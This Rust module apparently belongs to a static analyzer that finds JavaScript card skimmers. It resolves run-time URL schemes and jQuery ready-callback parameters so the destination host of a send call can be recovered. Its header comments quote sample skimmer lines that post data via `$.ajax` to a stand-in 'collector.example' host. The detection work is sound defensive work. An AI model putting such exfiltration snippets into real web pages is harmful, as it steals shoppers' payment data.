//! Two bindings a skimmer uses to keep its destination and its send call out of plain sight
//! without any decoder, recovered from the program's shape rather than by running it:
//!
//! - **a scheme chosen at run time**: `var h = "https://"; if (location.protocol != "https:")
//!   h = "http://"; $.ajax({url: h + "collector.example/p"})`, or `location.protocol +
//!   "//collector.example/p"`. The evaluator rightly treats `h` as unknown (it changes in a
//!   branch), so the URL starts with an unknown run; but every value `h` can take is a scheme,
//!   so the host that follows is the destination whichever branch runs.
//! - **jQuery handed to a ready callback**: `jQuery(function (b) { b.ajax(…) })` and
//!   `jQuery(document).ready(function (b) { … })` call the callback with jQuery itself as its
//!   first argument, so `b.ajax` is `jQuery.ajax`.

use crate::js::flow::FxBuild;
use oxc_ast::ast::*;
use oxc_span::{GetSpan, Span};
use std::collections::HashMap;

/// A string that is only a URL scheme (what a scheme variable holds).
fn is_scheme_text(s: &str) -> bool {
    matches!(
        s.to_ascii_lowercase().as_str(),
        "http://" | "https://" | "//" | "http:" | "https:" | "ws://" | "wss://"
    )
}

/// The names every one of whose values, anywhere in the program, is a scheme string; each
/// with the value it is first given. Filled by the walk in [`super::builders`].
#[derive(Default)]
pub(super) struct SchemeNames<'a> {
    /// `Some(first scheme)` while every value seen is a scheme, `None` once any is not.
    names: HashMap<&'a str, Option<&'a str>, FxBuild>,
}

impl<'a> SchemeNames<'a> {
    /// Note one write of `name` (`None`: a value that is not a plain expression, such as
    /// `x++` or `x += e`). Called by the builders' walk, which sees every write anyway.
    pub(super) fn note(&mut self, name: &'a str, value: Option<&'a Expression<'a>>) {
        let scheme = value.and_then(scheme_value);
        let slot = self.names.entry(name).or_insert(scheme);
        if scheme.is_none() {
            *slot = None;
        }
    }

    /// The scheme the leftmost operand of a `+` chain stands for: a scheme variable, or the
    /// page's own `location.protocol` (a secure checkout's is `https:`).
    pub(super) fn leading_scheme(&self, e: &Expression<'a>) -> Option<&'a str> {
        let mut cur = e.without_parentheses();
        for _ in 0..64 {
            match cur {
                Expression::BinaryExpression(b)
                    if b.operator == oxc_syntax::operator::BinaryOperator::Addition =>
                {
                    cur = b.left.without_parentheses();
                }
                Expression::Identifier(id) => {
                    return self.names.get(id.name.as_str()).copied().flatten();
                }
                Expression::StaticMemberExpression(m) if m.property.name == "protocol" => {
                    return is_location(&m.object).then_some("https:");
                }
                _ => return None,
            }
        }
        None
    }
}

/// A scheme literal, or a choice between scheme literals (`a ? "https://" : "http://"`).
fn scheme_value<'a>(e: &'a Expression<'a>) -> Option<&'a str> {
    match e.without_parentheses() {
        Expression::StringLiteral(s) if is_scheme_text(&s.value) => Some(s.value.as_str()),
        // `location.protocol + "//"`: the page's own scheme.
        Expression::BinaryExpression(b)
            if b.operator == oxc_syntax::operator::BinaryOperator::Addition
                && matches!(b.right.without_parentheses(), Expression::StringLiteral(s) if s.value == "//")
                && matches!(b.left.without_parentheses(), Expression::StaticMemberExpression(m)
                    if m.property.name == "protocol" && is_location(&m.object)) =>
        {
            Some("https://")
        }
        Expression::ConditionalExpression(c) => {
            let a = scheme_value(&c.consequent)?;
            scheme_value(&c.alternate)?;
            Some(a)
        }
        _ => None,
    }
}

/// `location`, `window.location`, `document.location`.
fn is_location(e: &Expression<'_>) -> bool {
    match e.without_parentheses() {
        Expression::Identifier(id) => id.name == "location",
        Expression::StaticMemberExpression(m) => {
            m.property.name == "location"
                && matches!(m.object.without_parentheses(),
                    Expression::Identifier(o) if matches!(o.name.as_str(), "window" | "document" | "self" | "top"))
        }
        _ => false,
    }
}

/// A function jQuery calls with itself as the first argument: the callback of `jQuery(fn)`,
/// `$(fn)` and `jQuery(document).ready(fn)` / `$(fn).ready`. Returns the parameter's name and
/// the function's span (where the name means jQuery).
pub(super) fn jquery_ready_param<'a>(
    c: &'a CallExpression<'a>,
    is_jquery: impl Fn(&'a Expression<'a>) -> bool,
) -> Option<(&'a str, Span)> {
    let ready = match c.callee.without_parentheses() {
        callee @ Expression::Identifier(_) => is_jquery(callee),
        Expression::StaticMemberExpression(m) if m.property.name == "ready" => {
            match m.object.without_parentheses() {
                Expression::CallExpression(inner) => is_jquery(&inner.callee),
                other => is_jquery(other),
            }
        }
        _ => false,
    };
    if !ready {
        return None;
    }
    let f = c.arguments.first()?.as_expression()?.without_parentheses();
    let params = match f {
        Expression::FunctionExpression(f) => &f.params,
        Expression::ArrowFunctionExpression(f) => &f.params,
        _ => return None,
    };
    let name = params.items.first()?.pattern.get_identifier_name()?;
    Some((name.as_str(), f.span()))
}
